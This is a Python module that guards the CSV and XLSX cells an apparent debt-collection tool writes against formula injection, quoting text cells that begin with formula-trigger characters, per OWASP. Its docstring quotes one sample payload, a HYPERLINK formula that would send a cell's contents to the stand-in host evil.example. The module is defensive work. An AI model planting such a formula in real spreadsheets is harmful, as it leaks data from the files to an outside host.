"""Cells of the CSV and XLSX files amicable writes, kept from becoming live formulas.

A debtor's name or address comes from outside (a creditor's sheet or API call). Written as is
into a manifest, ``=HYPERLINK("http://evil.example/?"&A1;"Click")`` or ``@SUM(...)`` becomes a
formula when the file is opened in a spreadsheet (CSV or formula injection). Every writer of a
CSV or XLSX row passes its cells through :func:`safe_row` (or :func:`safe_cell`).

The rule follows OWASP's advice ("CSV Injection"): a *text* cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return (or the full-width ``＝ ＋ － ＠`` that spreadsheets
read as the same) is prefixed with a single quote ``'``, which a spreadsheet shows as text.
Numbers given as numbers (``int``, ``Decimal``, ``float``) are left alone, so an amount of
-12.50 in a numeric column stays a number that can be summed; so are dates and ``None``.
This module imports nothing but the standard library: any layer may use it.
"""

from __future__ import annotations

from collections.abc import Iterable

__all__ = ["FORMULA_STARTS", "safe_cell", "safe_row"]

#: What makes a spreadsheet read a text cell as a formula (or a DDE call) when it comes first.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def safe_cell(value: object) -> object:
    """``value`` as a cell that a spreadsheet shows and never evaluates.

    ``"=1+1"`` becomes ``"'=1+1"`` and so does the text ``"-12.50"``; the number
    ``Decimal("-12.50")`` and the text ``"Rue de la Loi 16"`` stay as they are.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]
